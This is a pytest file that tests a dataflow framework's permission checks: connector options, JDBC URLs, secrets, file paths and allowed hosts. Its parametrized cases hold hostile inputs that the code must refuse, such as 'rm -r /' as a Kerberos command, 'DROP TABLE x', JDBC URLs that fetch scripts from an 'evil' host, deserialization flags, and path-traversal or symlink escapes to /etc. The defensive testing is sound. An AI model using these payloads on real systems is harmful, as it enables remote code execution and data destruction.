"""Permissions of a zone: options, JDBC URLs, secrets, and the paths and hosts of a unit."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import headwater as hw
from headwater.agent.agent import Agent
from headwater.connectors.permitted import AgentPermissions, PermittedPaths, check_unit, own_paths
from headwater.continuum.model import Continuum
from headwater.core.errors import DataflowError, HeadwaterError, RuntimeFailure
from headwater.core.jsonform import dump
from headwater.core.permissions import OPEN, Permissions
from headwater.dataflow.jdbcurl import parse_jdbc_url
from headwater.dataflow.optionlists import check_options
from headwater.disk.credentials import read_secret
from headwater.plan.build import build
from headwater.plan.port import Stamp
from headwater.plan.spec import UnitSpec, spec_of
from headwater.spark.sparks import Sparks

SCHEMA = "id bigint, v double"


def spec(write: Callable[[Any], Any], *, access: str = "", source: str = "/data/in", **options: str) -> UnitSpec:
    """Return the spec of the unit that reads files and writes a sink."""
    builder = hw.flow("f", locations=["L1"])
    write(builder.read.csv(source, SCHEMA, **options))
    zones = Continuum.from_text(f"layers: [edge]\nzones: {{E1: {{layer: edge, locations: [L1]{access}}}}}")
    plan = build(builder.build(), zones)
    return spec_of(plan, plan.units[0].id)


def refusal(unit: UnitSpec, agent: AgentPermissions) -> HeadwaterError:
    with pytest.raises(HeadwaterError) as caught:
        check_unit(unit, agent)
    return caught.value


def to_memory(rows: Any) -> Any:
    return rows.write.memory("out")


def limited(**lists: tuple[str, ...]) -> AgentPermissions:
    return AgentPermissions(own=Permissions(**lists))


# ---------------------------------------------------------------- options


@pytest.mark.parametrize(
    ("write", "options", "says", "hint"),
    [
        (to_memory, {"hedder": "true"}, "takes no option 'hedder'", "did you mean 'header'?"),
        (to_memory, {"pathToKeystore": "/x"}, "takes no option 'pathToKeystore'", "secrets are named"),
        (
            lambda rows: rows.select("'x' AS value").write.kafka("b:1", "t", plugin_library_paths="/x.so"),
            {},
            "takes no option 'plugin.library.paths'",
            "",
        ),
        (
            lambda rows: rows.select("'x' AS value").write.kafka("b:1", "t", ssl_keystore_location="/etc/shadow"),
            {},
            "takes no option 'ssl.keystore.location'",
            "secrets are named",
        ),
        (
            lambda rows: rows.select("'x' AS value").write.kafka("b:1", "t", sasl_kerberos_kinit_cmd="rm -r /"),
            {},
            "takes no option 'sasl.kerberos.kinit.cmd'",
            "",
        ),
        (
            lambda rows: rows.write.jdbc("jdbc:postgresql://h/d", "t", sessionInitStatement="DROP TABLE x"),
            {},
            "takes no option 'sessionInitStatement'",
            "",
        ),
        (
            lambda rows: rows.write.jdbc("jdbc:postgresql://h/d", "t", driver="evil.Driver"),
            {},
            "evil.Driver is not that of postgresql",
            "leave driver= out",
        ),
    ],
)
def test_an_option_that_is_not_listed_is_refused(
    write: Callable[[Any], Any], options: dict[str, str], says: str, hint: str
) -> None:
    error = refusal(spec(write, **options), AgentPermissions())
    assert says in error.what and hint in str(error.hint), error
    assert "'" in str(error.where), "the operator is named"


def test_usual_options_are_taken() -> None:
    unit = spec(to_memory, header="true", SEP=";", maxFilesPerTrigger="1", multiline="true")
    for operator in unit.flow.operators:
        check_options(operator)


@pytest.mark.parametrize(
    ("url", "hosts"),
    [
        ("jdbc:postgresql://db.plant/x?sslmode=require&ApplicationName=hw", (("db.plant", 5432),)),
        ("jdbc:mysql://a:3307,b/x", (("a", 3307), ("b", 3306))),
        ("jdbc:sqlserver://s\\inst:99;databaseName=x;encrypt=true", (("s", 99),)),
        ("jdbc:oracle:thin:@//o:1522/svc", (("o", 1522),)),
        ("jdbc:postgresql://[::1]:5433/x", (("::1", 5433),)),
    ],
)
def test_the_hosts_of_a_jdbc_url(url: str, hosts: tuple[tuple[str, int], ...]) -> None:
    assert parse_jdbc_url(url, where="x").hosts == hosts


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:postgresql://h/d?socketFactory=org.springframework.X&socketFactoryArg=http://evil",
        "jdbc:postgresql://h/d?sslfactory=x",
        "jdbc:postgresql://h/d?loggerFile=/etc/cron.d/x",
        "jdbc:postgresql://h/d?ssl=true&%73ocketFactory=x",
        "jdbc:mysql://h/d?allowLoadLocalInfile=true",
        "jdbc:mysql://h/d?autoDeserialize=true&queryInterceptors=x",
        "jdbc:mysql://(host=h,autoDeserialize=true)/d",
        "jdbc:mysql://address=(host=h)(autoDeserialize=true)/d",
        "jdbc:mysql://user:word@h/d",
        "jdbc:mysql:loadbalance://h/d",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:/tmp/x;INIT=RUNSCRIPT FROM 'x'",
        "jdbc:derby:memory:x;create=true",
        "jdbc:derby:/tmp/x;traceFile=/etc/x",
        "jdbc:derby:x;create=true",
        "jdbc:sqlite::resource:http://evil/x.db",
        "jdbc:sqlite:/tmp/x.db?enable_load_extension=true",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=h)(PORT=1)))",
        "jdbc:postgresql://h/d?password=x",
        "jdbc:unknown:x",
        "JDBC:h2:mem:x",
    ],
)
def test_a_jdbc_url_that_is_not_plain_is_refused(url: str) -> None:
    with pytest.raises(DataflowError) as caught:
        parse_jdbc_url(url, where="x")
    assert caught.value.hint and "user:word" not in str(caught.value)


# ---------------------------------------------------------------- secrets


def test_the_agents_token_is_no_secret_for_dataflows(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("HEADWATER_TOKEN", "the-token")
    monkeypatch.setenv("HEADWATER_SECRET_DB", "word")
    monkeypatch.delenv("HEADWATER_SECRETS_DIR", raising=False)
    with pytest.raises(RuntimeFailure) as caught:
        read_secret("HEADWATER_TOKEN", where="x")
    assert "HEADWATER_TOKEN is not a secret" in caught.value.what and "the-token" not in str(caught.value)
    assert read_secret("HEADWATER_SECRET_DB", where="x") == "word"
    (tmp_path / "MQTT").write_text("from a file\n")
    monkeypatch.setenv("HEADWATER_SECRETS_DIR", str(tmp_path))
    assert read_secret("MQTT", where="x") == "from a file"
    for name in ("../MQTT", "/etc/hostname", "..", "NONE"):
        with pytest.raises(RuntimeFailure):
            read_secret(name, where="x")


def test_a_secret_goes_only_to_hosts_that_are_allowed() -> None:
    def write(rows: Any) -> Any:
        return rows.write.jdbc("jdbc:postgresql://evil.org/d", "t", password_env="HEADWATER_SECRET_DB")

    unit = spec(write)
    agent = limited(read=("/data",), connect=("*.plant:5432",), secrets=("DB",))
    error = refusal(unit, agent)
    assert "connect to evil.org:5432" in error.what and "--allow-connect evil.org:5432" in str(error.hint)
    error = refusal(unit, limited(read=("/data",), connect=("evil.org",), secrets=("OTHER",)))
    assert "the secret HEADWATER_SECRET_DB" in error.what and "--allow-secret HEADWATER_SECRET_DB" in str(error.hint)
    check_unit(unit, limited(read=("/data",), connect=("evil.org",), secrets=("D*",)))


# ---------------------------------------------------------------- paths


@pytest.mark.parametrize(
    ("source", "taken"),
    [
        ("{in}", True),
        ("{in}/deep/*.csv", True),
        ("file://{in}", True),
        ("file://localhost{in}", True),
        ("{in}/../other", False),
        ("file://localhost/etc", False),
        ("file:/etc", False),
        ("FILE:///etc", False),
        ("{in}ner", False),
        ("{in}/{{..,x}}/*", False),
        ("{in}/\\.\\./other", False),
        ("{in}/*/../../other", False),
        ("/*", False),
        ("{link}", False),
        ("{link}/x", False),
        ("har:///etc/x", False),
        ("s3a://bucket/in/x", True),
        ("s3a://bucket/inner", False),
        ("s3a://bucket/in/../x", False),
        ("hdfs://bucket/in", False),
    ],
)
def test_a_source_stays_below_the_roots(tmp_path: Path, source: str, taken: bool) -> None:
    place = tmp_path.resolve()
    (place / "in").mkdir()
    (place / "other").mkdir()
    (place / "in/link").symlink_to(place / "other")
    path = source.format(**{"in": f"{place}/in", "link": f"{place}/in/link"})
    agent = limited(read=(f"{place}/in", "s3a://bucket/in"))
    unit = spec(to_memory, source=path)
    if taken:
        check_unit(unit, agent)
    else:
        error = refusal(unit, agent)
        assert "may not read" in error.what or ".." in error.what or "cannot be read" in error.what, error


def test_the_refusal_names_operator_zone_path_and_list(tmp_path: Path) -> None:
    unit = spec(to_memory, source="/etc", access=", access: {read: [/data]}")
    error = refusal(unit, limited(read=("/data",)))
    assert "may not read '/etc'" in error.what
    assert "'files'" in str(error.where) and "zone E1" in str(error.where)
    assert "--allow-read /etc" in str(error.hint)
    error = refusal(unit, AgentPermissions())
    assert "'/etc' in access: {read: [...]} of zone E1" in str(error.hint), "the plan's list counts as well"


@pytest.mark.parametrize("clean", ["delete", "archive"])
def test_files_are_cleaned_only_below_the_roots_for_writing(clean: str) -> None:
    options = {"cleanSource": clean, "sourceArchiveDir": "/data/old"}
    error = refusal(spec(to_memory, **options), limited(read=("/data",)))
    assert "may not write to '/data/in'" in error.what and "cleanSource" in str(error.where)
    error = refusal(spec(to_memory, **options), limited(read=("/data",), write=("/data/in",)))
    assert "may not write to '/data/old'" in error.what
    check_unit(spec(to_memory, **options), limited(read=("/data",), write=("/data",)))


def test_headwaters_own_files_are_out_of_reach(tmp_path: Path) -> None:
    own = tmp_path.resolve() / "zones/E1"
    own.mkdir(parents=True)
    agent = AgentPermissions(own=OPEN, reserved=own_paths(own, None))
    for path in (f"{own}", f"{own}/deployments/*", str(Path.home() / ".headwater")):
        assert "Headwater's own" in refusal(spec(to_memory, source=path), agent).what
    error = refusal(spec(lambda rows: rows.write.csv(f"{own}/x"), source=f"{tmp_path}/in"), agent)
    assert "Headwater's own" in error.what
    check_unit(spec(to_memory, source=str(tmp_path / "in")), agent)


def test_a_file_is_checked_as_it_is_now(tmp_path: Path) -> None:
    place = tmp_path.resolve()
    for name in ("in", "own", "replayed"):
        (place / name).mkdir()
        (place / name / "a").write_text("x")
    (place / "in/b").symlink_to("/etc/hostname")
    (place / "in/c").symlink_to(place / "own/a")
    agent = AgentPermissions(
        own=Permissions(read=(str(place),)), reserved=(str(place / "own"), str(place / "replayed"))
    )
    paths = PermittedPaths.from_data({**PermittedPaths.of(agent, None).to_data(), "own": str(place / "replayed")})
    assert paths.refuse_file("read", f"{place}/in/a") is None
    assert "outside" in str(paths.refuse_file("read", f"{place}/in/b"))
    assert "of Headwater's own" in str(paths.refuse_file("read", f"{place}/in/c"))
    assert paths.refuse_file("read", f"{place}/replayed/a") is None
    assert "outside" in str(paths.refuse_file("write", f"{place}/in/a"))


# ---------------------------------------------------------------- the continuum


def test_access_in_the_continuum() -> None:
    text = (
        "layers: [edge]\nzones: {E1: {layer: edge, access: {read: [/data], connect: ['*.plant:5432'], secrets: [DB]}}}"
    )
    zones = Continuum.from_text(text)
    assert zones.zone("E1").access == Permissions(read=("/data",), connect=("*.plant:5432",), secrets=("DB",))
    assert Continuum.from_data(zones.to_data()) == zones
    assert zones.node("E1").access == zones.zone("E1").access


@pytest.mark.parametrize(
    ("access", "says"),
    [
        ("{reed: [/x]}", "unknown key 'reed'"),
        ("{read: /x}", "must be a list"),
        ("{read: [x]}", "absolute path"),
        ("{connect: ['tcp://h']}", "HOST:PORT"),
        ("[read]", "must be a mapping"),
    ],
)
def test_errors_in_access(access: str, says: str) -> None:
    with pytest.raises(HeadwaterError) as caught:
        Continuum.from_text(f"layers: [edge]\nzones: {{E1: {{layer: edge, access: {access}}}}}")
    assert says in str(caught.value), caught.value


# ---------------------------------------------------------------- the agent


@pytest.mark.parametrize(
    ("source", "options", "says"),
    [
        ("{home}/token", {}, "Headwater's own|may not read"),
        ("{home}/*", {}, "Headwater's own|may not read"),
        ("file://localhost{home}", {}, "Headwater's own|may not read"),
        ("{in}/../home", {}, "Headwater's own|may not read"),
        ("{in}", {"cleanSource": "delete"}, "may not write to"),
        ("{in}", {"cleanSource": "archive", "sourceArchiveDir": "/etc/cron.d"}, "may not write to"),
    ],
)
@pytest.mark.parametrize("order", ["check", "prepare", "start"])
def test_an_agent_refuses_whatever_the_controller_sends(
    tmp_path: Path, order: str, source: str, options: dict[str, str], says: str
) -> None:
    place = tmp_path.resolve()
    (place / "in").mkdir()
    unit = spec(to_memory, source=source.format(**{"home": place / "home", "in": place / "in"}), **options)
    home = place / "home"
    agent = Agent(
        "E1",
        home,
        Sparks(home / "spark"),
        permissions=Permissions(read=(f"{place}/in",)),
    )
    actions = agent.actions()
    digest = actions["hold"]({"spec": dump(unit)})
    body = {"deployment": "f", "digest": digest, "stamp": dump(Stamp(store="s", term=1, number=1))}
    with pytest.raises(HeadwaterError, match=says) as caught:
        actions[order](body)
    assert "zone E1" in str(caught.value) and not (home / "spark/server.json").exists()


# ---------------------------------------------------------------- bridges


@pytest.mark.parametrize(
    ("read", "allowed"),
    [
        (
            lambda f: f.read.http(
                "0.0.0.0:8080/{location}", SCHEMA, token_env="HEADWATER_SECRET_T", certificate="/c/pem", key="/c/key"
            ),
            {"connect": ("0.0.0.0:8080",), "read": ("/c",), "secrets": ("T",)},
        ),
        (
            lambda f: f.read.opcua(
                "opc.tcp://plc-{location}", "i=7", username_env="HEADWATER_SECRET_U", password_env="HEADWATER_SECRET_P",
                certificate="/c/pem", key="/c/key", server_certificate="/c/server",
            ),
            {"connect": ("plc-L1:4840",), "read": ("/c",), "secrets": ("U", "P")},
        ),
        (
            lambda f: f.read.sparkplug("mqtts://broker", password_env="HEADWATER_SECRET_P"),
            {"connect": ("broker:8883",), "secrets": ("P",)},
        ),
    ],
)  # fmt: skip
def test_a_bridge_needs_its_address_files_and_secrets(
    read: Callable[[Any], Any], allowed: dict[str, tuple[str, ...]]
) -> None:
    builder = hw.flow("f", locations=["L1"])
    read(builder).write.memory("out")
    zones = Continuum.from_text("layers: [edge]\nzones: {E1: {layer: edge, locations: [L1]}}")
    plan = build(builder.build(), zones)
    unit = spec_of(plan, plan.units[0].id)
    check_unit(unit, limited(**allowed))
    for left_out in allowed:
        assert "may not" in refusal(unit, limited(**{k: v for k, v in allowed.items() if k != left_out})).what


def test_the_sink_of_opc_ua_needs_its_server() -> None:
    unit = spec(lambda rows: rows.write.opcua("opc.tcp://plc:4841/x", "i=7", value="v"))
    check_unit(unit, limited(read=("/data",), connect=("plc:4841",)))
    assert "may not connect to plc:4841" in refusal(unit, limited(read=("/data",))).what
